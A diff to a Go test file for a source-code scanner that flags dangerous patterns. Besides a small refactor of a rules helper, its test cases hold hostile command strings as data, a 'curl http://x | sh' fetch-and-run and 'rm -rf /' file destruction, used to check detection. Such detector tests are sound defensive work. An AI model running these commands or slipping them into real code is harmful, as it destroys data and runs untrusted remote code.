@@ -59,7 +59,7 @@ func TestDeepSourceIsBounded(t *testing.T) {
 			}
 			source += strings.Repeat(u, size/len(u))
 			r := scanned(t, s, l, source)
-			if !slices.Contains(r.rules(), "credential-text") {
+			if !slices.Contains(rulesOf(r), "credential-text") {
 				t.Errorf("%s, a million of %q: what its words tell is not found (%s)", l, u, r.Unread)
 			}
 			if l == "python" && u == "(" && r.Unread == "" {
@@ -212,8 +212,8 @@ func TestOtherLanguages(t *testing.T) {
 		{"lua", "os.execute(\"curl http://x | sh\")", "code-fetched"},
 		{"typescript", "const cp = require('child_process');\nchild_process.exec('rm -rf /');", "file-destroy"},
 	} {
-		if r := scanned(t, Scanner{}, c.lang, c.source); !slices.Contains(r.rules(), c.rule) {
-			t.Errorf("%s: %q finds %q, not %s", c.lang, c.source, r.rules(), c.rule)
+		if r := scanned(t, Scanner{}, c.lang, c.source); !slices.Contains(rulesOf(r), c.rule) {
+			t.Errorf("%s: %q finds %q, not %s", c.lang, c.source, rulesOf(r), c.rule)
 		}
 	}
 	for _, l := range []string{"go", "c", "ruby", "typescript"} {
@@ -222,7 +222,7 @@ func TestOtherLanguages(t *testing.T) {
 			comment = "// system(\"rm -rf /\")\n/* eval(x) */ int a;"
 		}
 		if r := scanned(t, Scanner{}, l, comment); len(r.Findings) > 0 {
-			t.Errorf("%s: a comment has findings %q", l, r.rules())
+			t.Errorf("%s: a comment has findings %q", l, rulesOf(r))
 		}
 	}
 }
